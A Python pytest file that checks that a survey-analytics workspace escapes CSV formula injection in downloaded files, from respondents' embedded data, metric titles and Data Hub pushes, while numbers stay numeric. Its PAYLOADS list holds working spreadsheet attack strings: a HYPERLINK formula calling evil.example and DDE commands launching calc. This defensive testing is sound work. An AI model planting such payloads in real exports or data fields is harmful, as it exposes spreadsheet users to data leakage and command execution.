"""Issue 12 finding 3: text from respondents, pushes and survey questions never reaches a downloaded CSV as a
formula, while numbers stay numbers.

The payloads are the ones the attack used: a respondent's embedded data, a Data Hub ``Step`` and a metric
title taken from question text. Each goes through the real path (sandbox → sync → SQLite → download, or the
Data Hub's push handler) and the downloaded bytes are read back with the csv module, as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from qualtrics.sandbox import Sandbox
from workspace import bootstrap, downloads, journey_view, journeys, scores, sync, views, wizard
from workspace.datahub import endpoint, store
from workspace.config import Settings
from workspace.scores import ScoreFilter

HYPERLINK = '=HYPERLINK("http://evil.example/?c","x")'
DDE = "=cmd|' /C calc'!A0"
# The issue writes the first as `channel==HYPERLINK(…)`: the embedded field `channel` set to `=HYPERLINK(…)`.
PAYLOADS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "|calc"]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def runs_as_formula(cell: str) -> bool:
    """What Excel/LibreOffice/Sheets would evaluate: a cell whose text starts a formula or a hidden line."""
    return cell.lstrip(" \u00a0").startswith(downloads.FORMULA_LEADS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fresh_sandbox: Sandbox) -> Iterator[Settings]:
    """A fresh database and a sandbox of this test's own (the test records hostile responses into it)."""
    monkeypatch.setenv("PULSE_DB", str(tmp_path / "pulse.db"))
    monkeypatch.setenv("QUALTRICS_BASE_URL", fresh_sandbox.base_url)
    monkeypatch.setenv("QUALTRICS_API_TOKEN", fresh_sandbox.api_token)
    monkeypatch.setenv("PULSE_SYNC_INTERVAL", "3600")
    for name in ("QUALTRICS_CLIENT_ID", "QUALTRICS_CLIENT_SECRET", "QUALTRICS_DATACENTER", "PULSE_URL",
                 "PULSE_SECRET_KEY"):
        monkeypatch.delenv(name, raising=False)
    bootstrap.shutdown()
    yield bootstrap.runtime().settings
    bootstrap.shutdown()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_leading_text_is_written_as_text(payload):
    cell = downloads.safe_cell(payload)
    assert cell == "'" + payload
    assert not runs_as_formula(cell)


@pytest.mark.parametrize("value", [-4.0, 32.5, 0, 1234, -100])
def test_numbers_stay_numbers_even_negative_ones(value):
    written = rows_of(downloads.csv_bytes(pd.DataFrame({"NPS": [value]})))[1][0]
    assert float(written) == value and not written.startswith("'")


@pytest.mark.parametrize("text", ["-4.0", "+12", "3.5e2", "Billing page is confusing", "a=b", "50% - fine"])
def test_plain_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert downloads.safe_cell(text) == text


def test_answers_behind_the_score_download_neutralises_a_respondents_embedded_data(settings, fresh_sandbox):
    survey_id = fresh_sandbox.survey_ids["nps"]
    fresh_sandbox.record_response("nps", {"QID1": "1"}, embedded={"channel": HYPERLINK, "region": DDE})
    question = next(q for q in wizard.questions(settings, survey_id) if q.id == "QID1")
    metric = wizard.create(settings, survey_id, question.id, "NPS", wizard.title_for(question, "NPS"),
                           wizard.mapping_from_table(wizard.default_table(question, "NPS"), "NPS"), owner="t",
                           segments=["channel", "region"])
    assert sync.sync_metric(settings, metric.id).ok

    rows = rows_of(views.answers_csv(settings, metric, ScoreFilter(segments={"channel": [HYPERLINK]})))
    header, body = rows[0], rows[1:]
    assert len(body) == 1, "the filter in force selects the hostile respondent only"
    record = dict(zip(header, body[0]))
    assert record["channel"] == "'" + HYPERLINK and record["region"] == "'" + DDE
    assert record["Filter: segments"] == "channel = " + HYPERLINK, "the filter that made the file is in it"
    assert not any(runs_as_formula(cell) for row in rows for cell in row)


def test_scorecard_neutralises_a_metric_title_from_question_text_and_keeps_scores_numeric(settings, fresh_sandbox):
    survey_id = fresh_sandbox.survey_ids["nps"]
    question = next(q for q in wizard.questions(settings, survey_id) if q.id == "QID1")
    # The wizard's title field starts from the question's text; a survey author's text is kept as typed.
    metric = wizard.create(settings, survey_id, question.id, "NPS", HYPERLINK,
                           wizard.mapping_from_table(wizard.default_table(question, "NPS"), "NPS"), owner="t")
    assert sync.sync_metric(settings, metric.id).ok
    journey = journey_view.create_with_stages(settings, "=Journey", "+Stage")
    step = journeys.add_step(settings, journey.stages[0].id, "-Step")
    journeys.place_metric(settings, metric.id, step.id)

    table = scores.journey_scores(settings, journey.id)
    rows = rows_of(journey_view.scorecard_csv(table, ScoreFilter()))
    record = dict(zip(rows[0], rows[1]))
    assert record["Metric"] == "'" + HYPERLINK and record["Stage"] == "'+Stage" and record["Step"] == "'-Step"
    score = record[journey_view.SCORE_HEADER]
    assert float(score) == float(table["display"].iloc[0]), "the score is the number shown on the card"
    assert not any(runs_as_formula(cell) for row in rows for cell in row)


def test_data_hub_rows_with_a_hostile_step_download_as_text(settings):
    key = endpoint.create_key(settings, created_by="t")
    body = json.dumps({"SurveyID": "SV_0000000001", "ResponseID": "R_hostile0001", "Step": HYPERLINK,
                       "Q5_TEXT": "@SUM(1+1) the app was slow"}).encode()
    receipt = endpoint.receive(settings, body=body, content_type="application/json", headers={"x-api-key": key})
    assert receipt.status_code in (200, 201), receipt.body

    rows = rows_of(downloads.csv_bytes(store.latest_sources(settings)))
    record = dict(zip(rows[0], rows[1]))
    assert record["Step"] == "'" + HYPERLINK
    assert record["Open text"].startswith("'@SUM")
    assert not any(runs_as_formula(cell) for row in rows for cell in row)
